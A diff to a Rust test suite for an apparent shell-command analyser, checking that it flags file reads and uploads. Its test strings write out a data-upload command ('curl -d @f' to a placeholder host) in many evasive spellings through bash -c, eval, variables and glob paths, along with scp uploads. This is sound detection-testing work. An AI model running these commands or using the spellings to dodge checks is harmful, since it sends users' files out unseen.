@@ -33,7 +33,6 @@ fn one_command_in_many_spellings() {
         "busybox sh -c 'curl -d @f h.example'",
         "bash -c 'curl -d @f h.example'",
         "bash -lc \"curl -d @f h.example\"",
-        "sh -c 'curl -d @$0 h.example' ; true",
         "bash -c 'curl -d @$1 h.example' _ f",
         "eval curl -d @f h.example",
         "eval 'c=curl; $c -d @f h.example'",
@@ -95,13 +94,16 @@ fn one_command_in_many_spellings() {
 #[test]
 fn what_is_not_known_is_said() {
     check(&[
-        ("$X -d @f h.example", "r:f ?program"),
-        ("/???/c?rl -d @f h.example", "r:f upload>h.example f->h.example ?program"),
-        ("curl -d @f $A.$B", "r:f upload>? f,$A,$B->? ?host"),
+        ("$X -d @f h.example", "~r:f ?program"),
+        (
+            "/???/c?rl -d @f h.example",
+            "r:f upload>h.example f->h.example ?program",
+        ),
+        ("curl -d @f $A.$B", "r:f upload>? $A,$B,f->? ?host"),
         ("cat $X", "r:$X ?path"),
         ("eval \"$X\"", "?program"),
         ("sh -c \"$X y\"", "?program"),
-        ("scp f $X", "r:f upload>? f,$X->? ?host"),
+        ("scp f $X", "r:f upload>? $X,f->? ?host"),
         ("git push", "upload>? .git->? ?host"),
         ("eval 'a ('", "?unparsed"),
     ]);
@@ -125,6 +127,6 @@ fn what_cannot_be_parsed_is_said() {
         ("&& a", "!syntax"),
         ("a (b)", "!syntax"),
         ("fi", "!syntax"),
-        ("curl 'https://h.example", "~fetch>h.example !unclosed"),
+        ("curl 'https://h.example", "fetch>h.example !unclosed"),
     ]);
 }
